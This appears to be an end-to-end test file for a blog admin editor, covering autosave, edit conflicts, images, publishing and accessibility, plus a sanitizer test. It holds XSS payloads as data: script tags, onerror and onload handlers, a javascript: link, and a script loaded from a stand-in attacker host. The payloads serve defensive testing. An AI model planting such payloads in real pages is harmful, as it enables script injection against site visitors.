// Writing a post in the editor, and reading one: also one that saved the attacks of server/testing/xss-attacks.ts, on its page
// and without its content policy, to test the sanitizer alone.
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { allowedAttributes } from "#server/testing/allowed-html.ts";
import { attackerHost, attacks } from "#server/testing/xss-attacks.ts";
import { link } from "#shared/routes.ts";
import { createClient, read } from "../../../../app/api-client.ts";
import { accessibilityIssues, overflowing } from "../../../../testing/accessibility.ts";
import { admin, browser } from "../../../../testing/browser.ts";
import { photo } from "../../../../testing/images.ts";
import { clientOf } from "../../../../testing/users.ts";

const { url, open, openAs } = await browser();
const signedIn = await read(createClient(`${url}/api`, fetch).auth.signIn.$post({ json: admin }));
const api = clientOf(url, signedIn);

const openPage = async (path: string, options = {}) => {
  const page = await openAs(signedIn, path, options);
  await page.waitForURL(`**${path}`);
  return page;
};
const titleOf = (page: Page) => page.getByLabel("Title", { exact: true });
const bodyOf = (page: Page) => page.getByRole("textbox", { name: "Post content" });
const press = (page: Page, name: string) => page.getByRole("button", { name, exact: true }).click();
/** Clicks a toolbar button; the selection stays in the editor. */
const format = async (page: Page, name: string) => {
  await press(page, name);
  await expect.poll(() => bodyOf(page).evaluate((element) => element === document.activeElement)).toBe(true);
};
const expectStatus = (page: Page, text: string | RegExp) =>
  page.getByRole("status").filter({ hasText: text }).first().waitFor();
const publicText = async (path: string) => {
  const response = await fetch(url + path);
  return { status: response.status, text: await response.text() };
};
const isEverywhere = async (slug: string) => {
  const paths = ["/blog", "/blog/feed.xml", "/blog/atom.xml", "/sitemaps/blog.xml"];
  return Promise.all(paths.map(async (path) => (await publicText(path)).text.includes(slug)));
};
const draft = (title: string) =>
  read(api.blogposts.$post({ json: { title, content: "<p>First.</p>", status: "draft" } }));

test("an admin writes a post that saves itself, adds images, publishes, edits and unpublishes it; readers see it at once", async () => {
  const page = await openPage("/dashboard/admin/blog/new");
  await titleOf(page).fill("Found by all");
  await expectStatus(page, /Saved at \d\d:\d\d/);
  await page.waitForURL(/\/dashboard\/admin\/blog\/[0-9a-f-]{36}$/);
  const { blogposts } = await read(api.blogposts.$get({ query: { q: "found by all" } }));
  expect(blogposts).toMatchObject([{ title: "Found by all", status: "draft" }]);

  // What a failed save would lose is restored after a reload.
  await page.route("**/api/blogposts/*", (route) =>
    route.request().method() === "PUT" ? route.abort() : route.continue(),
  );
  await titleOf(page).fill("Found by everyone");
  await expectStatus(page, "Not saved: ");
  page.on("dialog", (dialog) => void dialog.accept());
  await page.reload();
  await page.unroute("**/api/blogposts/*");
  await press(page, "Restore changes");
  await expect.poll(() => titleOf(page).inputValue()).toBe("Found by everyone");
  await expectStatus(page, /Saved at/);
  page.consoleErrors.length = 0;
  await page.getByLabel("Slug").fill("found-by-everyone");

  await bodyOf(page).click();
  await page.keyboard.type("Plain and ");
  await format(page, "Bold");
  await page.keyboard.type("bold");
  await format(page, "Bold");
  await page.keyboard.press("Enter");
  await format(page, "Heading 2");
  await page.keyboard.type("A part");
  await page.keyboard.press("Enter");
  await format(page, "Bullet list");
  await page.keyboard.type("One");
  await page
    .getByLabel("Add images")
    .setInputFiles({ name: "photo.jpg", mimeType: "image/jpeg", buffer: await photo() });
  await page.getByLabel("Alt text").fill("Our mark");
  await page
    .getByLabel("Choose cover image")
    .setInputFiles({ name: "cover.jpg", mimeType: "image/jpeg", buffer: await photo(1280, 720) });
  await page.getByAltText("Cover preview").waitFor();

  const drop = async (bytes: number[], name: string) =>
    bodyOf(page).evaluate(
      (element, [content, fileName]) => {
        const data = new DataTransfer();
        data.items.add(new File([new Uint8Array(content as number[])], fileName as string, { type: "image/png" }));
        const { left, bottom } = element.getBoundingClientRect();
        const at = { clientX: left + 30, clientY: bottom - 10 };
        element.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true, ...at }));
      },
      [bytes, name] as const,
    );
  await drop([...(await photo(400, 300))], "dropped.png");
  await expect.poll(() => bodyOf(page).locator("img").count()).toBe(2);
  await drop([...Buffer.from("not an image")], "text.png");
  await page.getByRole("alert").filter({ hasText: "not a supported image" }).waitFor();
  await press(page, "Dismiss");
  // The browser logs the rejected upload.
  page.consoleErrors.length = 0;
  await expect.poll(() => bodyOf(page).locator("img").count()).toBe(2);
  await expect.poll(() => bodyOf(page).textContent()).toContain("Plain and bold");

  // While a draft saves itself, and what is typed then stays in the browser.
  const { promise: goesOn, resolve: goOn } = Promise.withResolvers<void>();
  await page.route("**/api/blogposts/*", async (route) => {
    await goesOn;
    await route.continue();
  });
  await page.getByLabel("SEO title").fill("Found by search");
  await expectStatus(page, "Saving…");
  await press(page, "Publish");
  await page.getByLabel("SEO title").fill("Found by readers");
  goOn();
  await expectStatus(page, "Published");
  await expectStatus(page, "Unpublished changes");
  await expect.poll(() => page.evaluate(() => JSON.stringify(localStorage))).toContain("Found by readers");
  const { status, text } = await publicText("/blog/found-by-everyone");
  expect(status).toBe(200);
  expect(text).toContain("Plain and <strong>bold</strong>");
  expect(text).toContain('<h2 id="section-a-part">A part</h2>');
  expect(text).toMatch(/<img [^>]*alt="Our mark" width="1600" height="900"/);
  await expect.poll(() => isEverywhere("found-by-everyone")).toEqual([true, true, true, true]);

  // The largest image has priority, and nothing moves while the page loads.
  const post = await open("/blog/found-by-everyone", { viewport: { width: 360, height: 740 } });
  await post.waitForLoadState("networkidle");
  const seen = await post.evaluate(
    () =>
      new Promise<{ shift: number; largest: string; priority: string }>((resolve) => {
        let shift = 0;
        new PerformanceObserver((list) => {
          for (const entry of list.getEntries()) shift += (entry as unknown as { value: number }).value;
        }).observe({ type: "layout-shift", buffered: true });
        new PerformanceObserver((list) => {
          const { element } = list.getEntries().at(-1) as unknown as { element: Element | null };
          requestAnimationFrame(() =>
            resolve({ shift, largest: element?.tagName ?? "", priority: element?.getAttribute("fetchpriority") ?? "" }),
          );
        }).observe({ type: "largest-contentful-paint", buffered: true });
      }),
  );
  expect(seen.shift).toBe(0);
  expect(seen.largest === "IMG" ? seen.priority : "high").toBe("high");

  await bodyOf(page).click();
  await page.keyboard.press("Control+End");
  await page.keyboard.type("Added later");
  await expectStatus(page, "Unpublished changes");
  await press(page, "Publish changes");
  await expect.poll(async () => (await publicText("/blog/found-by-everyone")).text.includes("Added later")).toBe(true);

  await press(page, "Unpublish");
  await expect.poll(async () => (await publicText("/blog/found-by-everyone")).status).toBe(404);
  await expect.poll(() => isEverywhere("found-by-everyone")).toEqual([false, false, false, false]);
});

test("asks before unsaved input is lost, and which of two versions stays when someone saved since", async () => {
  const page = await openPage("/dashboard/admin/blog");
  const dialog = page.getByRole("dialog", { name: "Someone saved this post since you opened it" });
  const storedTitle = async (id: string) => (await read(api.blogposts[":id"].$get({ param: { id } }))).title;
  for (const [choice, stored, shown] of [
    ["Overwrite with mine", "Mine", "Mine"],
    ["Use theirs", "Theirs: Use theirs", "Theirs: Use theirs"],
    ["Save mine as a new draft", "Theirs: Save mine as a new draft", "Mine (my version)"],
  ] as const) {
    const { id } = await draft(`Two writers: ${choice}`);
    await page.goto(`/dashboard/admin/blog/${id}`);
    await bodyOf(page).waitFor();
    const json = { title: `Theirs: ${choice}`, content: "<p>Theirs.</p>", status: "draft" as const };
    await read(api.blogposts[":id"].$put({ param: { id }, json }));
    await titleOf(page).fill("Mine");
    await press(page, "Save draft");
    await expect.poll(() => dialog.getByLabel("Their saved version").inputValue()).toContain("Theirs.");
    await expect.poll(() => dialog.getByLabel("Your unsaved version").inputValue()).toContain("First.");
    await press(page, choice);
    await expect.poll(() => titleOf(page).inputValue()).toBe(shown);
    await expect.poll(() => storedTitle(id)).toBe(stored);
  }

  // What the server refuses isn't sent again until it changes.
  const { slug: taken } = await draft("First with this slug");
  const { id: otherId } = await draft("Second with this slug");
  const sent: string[] = [];
  page.on("request", (request) => {
    if (request.method() === "PUT") sent.push(request.postDataJSON().slug);
  });
  await page.clock.install();
  await page.goto(`/dashboard/admin/blog/${otherId}`);
  await page.getByLabel("Slug").fill(taken);
  await page.clock.runFor(2_000);
  await expectStatus(page, "Another post uses this slug");
  await page.clock.runFor(2_000);
  await page.getByLabel("Slug").fill("second-with-its-own");
  await page.clock.runFor(2_000);
  await expectStatus(page, "Saved at");
  expect(sent).toEqual([taken, "second-with-its-own"]);
  // The browser logs the conflicts.
  page.consoleErrors.length = 0;

  const json = { title: "Public already", content: "", status: "published" as const };
  const { id } = await read(api.blogposts.$post({ json }));
  await page.goto(`/dashboard/admin/blog/${id}`);
  await page.getByLabel("SEO title").fill("Changed");
  await page.getByRole("link", { name: "Users", exact: true }).click();
  await page.getByRole("dialog", { name: "Leave without saving?" }).waitFor();
  await press(page, "Cancel");
  await expect.poll(() => page.getByLabel("SEO title").inputValue()).toBe("Changed");
  await page.getByRole("link", { name: "Users", exact: true }).click();
  await press(page, "Leave");
  await page.waitForURL("**/dashboard/admin/users");
});

test("the list searches, publishes, unpublishes and deletes, and list and editor pass axe", async () => {
  const { id, slug } = await draft("Seldom words here");
  const page = await openPage("/dashboard/admin/blog", { reducedMotion: "reduce" });
  expect(await accessibilityIssues(page)).toEqual([]);
  await page.getByLabel("Search").fill("seldom");
  await page.waitForURL(/q=seldom/);
  const row = page.getByRole("row").filter({ hasText: "Seldom words here" });
  const choose = async (label: string) => {
    await row.getByRole("button", { name: /^Actions/ }).click();
    await page.getByRole("menuitem", { name: label, exact: true }).click();
  };
  await choose("Publish");
  await row.getByText("Published").waitFor();
  expect((await publicText(`/blog/${slug}`)).status).toBe(200);
  await choose("Unpublish");
  await row.getByText("Draft", { exact: true }).waitFor();

  await page.goto(`/dashboard/admin/blog/${id}`);
  await bodyOf(page).waitFor();
  expect(await accessibilityIssues(page)).toEqual([]);
  expect(await overflowing(page)).toEqual([]);
  await press(page, "Link");
  await page.getByRole("dialog", { name: "Add link" }).waitFor();
  expect(await accessibilityIssues(page)).toEqual([]);
  await page.getByLabel("URL").fill("javascript:alert(1)");
  await press(page, "Save link");
  await page.getByRole("alert").filter({ hasText: "Enter a URL" }).waitFor();
  await press(page, "Cancel");
  await press(page, "Preview");
  await page.getByRole("article", { name: "Preview" }).waitFor();
  expect(await accessibilityIssues(page)).toEqual([]);

  await page.goto("/dashboard/admin/blog?q=seldom");
  await choose("Delete");
  await page.getByRole("dialog").waitFor();
  expect(await accessibilityIssues(page)).toEqual([]);
  await press(page, "Delete post");
  await page.getByText("No posts match these filters").waitFor();
});

const attacksAPost = 50;
const groups = Array.from({ length: Math.ceil(attacks.length / attacksAPost) }, (_, at) =>
  attacks.slice(at * attacksAPost, (at + 1) * attacksAPost).map(([, html]) => html.replaceAll("\0", "")),
);

const save = async (slug: string, content: string) =>
  read(
    api.blogposts.$post({
      json: {
        title: `</title></script><script>hits++</script> ${slug}`,
        slug,
        content,
        metaTitle: `"><img src=x onerror=hits++> ${slug}`,
        metaDescription: `--></script><svg onload=hits++> <script src=//${attackerHost}/x.js></script>`,
        status: "published",
      },
    }),
  );

type Watched = Page & { consoleErrors: string[]; happened: string[] };

/**
 * Opens a page that records dialogs, popups, frames and requests to the attacker's host. Other hosts' images are faked.
 */
const watched = async (): Promise<Watched> => {
  const page = await open("/robots.txt");
  const happened: string[] = [];
  await page.addInitScript("globalThis.hits = 0");
  page.on("dialog", (dialog) => {
    happened.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (request.url().includes(attackerHost)) happened.push(`a request: ${request.url()}`);
  });
  page.on("popup", () => void happened.push("a window"));
  page.on("framenavigated", (frame) => {
    if (frame !== page.mainFrame()) happened.push(`a frame: ${frame.url()}`);
  });
  await page.route(
    (address) => address.protocol.startsWith("http") && address.origin !== url,
    (route) => route.fulfill({ contentType: "image/svg+xml", body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
  );
  return Object.assign(page, { happened });
};

/** Opens a page with this HTML in its main element and no content policy. */
const openBare = async (page: Page, html: string) => {
  const body = `<!doctype html><html lang="en"><title>No policy</title><main>${html}`;
  await page.route("**/no-policy", (route) => route.fulfill({ contentType: "text/html; charset=utf-8", body }));
  await page.goto("/no-policy");
};

// Attributes the page adds itself: heading anchors, image widths, code that scrolls by keyboard.
const onPage = {
  ...allowedAttributes,
  h2: ["id"],
  h3: ["id"],
  pre: ["tabindex", "role", "aria-label"],
  img: [...(allowedAttributes.img ?? []), "loading", "decoding", "sizes", "srcset"],
};

/** Returns elements and attributes that no post may have, as the browser parsed them. */
const faultsIn = (page: Page, selector: string, names: Record<string, string[]>) =>
  page.locator(selector).evaluate((root, names) => {
    const faults: string[] = [];
    for (const element of root.querySelectorAll("*")) {
      const name = element.localName;
      const attributes = names[name];
      if (!attributes || element.namespaceURI !== "http://www.w3.org/1999/xhtml") faults.push(`<${name}>`);
      if (element.shadowRoot) faults.push(`<${name}> with a shadow`);
      for (const attribute of element.getAttributeNames())
        if (!attributes?.includes(attribute)) faults.push(`<${name} ${attribute}>`);
      if (element.id && !element.id.startsWith("section-")) faults.push(`<${name} id="${element.id}">`);
      const address = (element as HTMLAnchorElement).href ?? (element as HTMLImageElement).src;
      if (address && !/^(https?|mailto):/.test(address)) faults.push(`<${name}> to ${address}`);
    }
    const comments = document.createTreeWalker(root, NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION);
    while (comments.nextNode()) faults.push(`a comment: ${comments.currentNode.nodeValue}`);
    return faults;
  }, names);

/** Triggers events on every element, then returns how many scripts ran. */
const hitsOf = (page: Page, selector: string) =>
  page.locator(selector).evaluate(async (root) => {
    addEventListener("click", (event) => event.preventDefault(), { capture: true });
    for (const element of root.querySelectorAll<HTMLElement>("*")) {
      for (const name of ["mouseover", "pointerenter", "focus", "load", "error", "toggle", "animationstart", "copy"])
        element.dispatchEvent(new Event(name, { bubbles: true }));
      element.focus?.();
      element.click?.();
    }
    await new Promise(requestAnimationFrame);
    return (globalThis as unknown as { hits: number }).hits;
  });

test("attacks have no effect on a post's page or in the post list, and would be noticed", async () => {
  const page = await watched();
  await openBare(page, `<img src=x onerror=hits++><script src=https://${attackerHost}/x.js></script></main>`);
  await expect.poll(() => page.evaluate("hits")).toBeGreaterThan(0);
  expect(page.happened).toEqual([`a request: https://${attackerHost}/x.js`]);
  expect(await faultsIn(page, "main", allowedAttributes)).toEqual(["<img onerror>", "<script>", "<script src>"]);
  // The browser logs the script that failed to load.
  page.consoleErrors.length = 0;
  page.happened.length = 0;
  await page.unroute("**/no-policy");

  for (const htmls of groups) {
    const { slug, content } = await save(`attack-${crypto.randomUUID().slice(0, 8)}`, htmls.join("\n<p>next</p>\n"));
    await page.goto(link("post", { slug }), { waitUntil: "load" });
    await page.getByRole("heading", { level: 1, name: `<script>hits++</script> ${slug}` }).waitFor();
    expect(await faultsIn(page, "article > div:last-of-type > div", onPage)).toEqual([]);
    expect(await hitsOf(page, "article > div:last-of-type > div")).toBe(0);
    // The post's markup didn't swallow the elements after it.
    await expect.poll(() => page.locator("body > * footer, body > footer").count()).toBe(1);
    await expect.poll(() => page.locator("article footer").count()).toBe(0);

    await openBare(page, `${content}</main><p id="after">after</p>`);
    expect(await faultsIn(page, "main", allowedAttributes)).toEqual([]);
    expect(await hitsOf(page, "main")).toBe(0);
    await expect.poll(() => page.locator("body > #after").count()).toBe(1);
    await page.unroute("**/no-policy");
  }
  await page.goto(link("blog"), { waitUntil: "load" });
  await page.getByRole("link", { name: "</title></script><script>hits++" }).first().waitFor();
  expect(await hitsOf(page, "main")).toBe(0);
  expect(page.happened).toEqual([]);
});
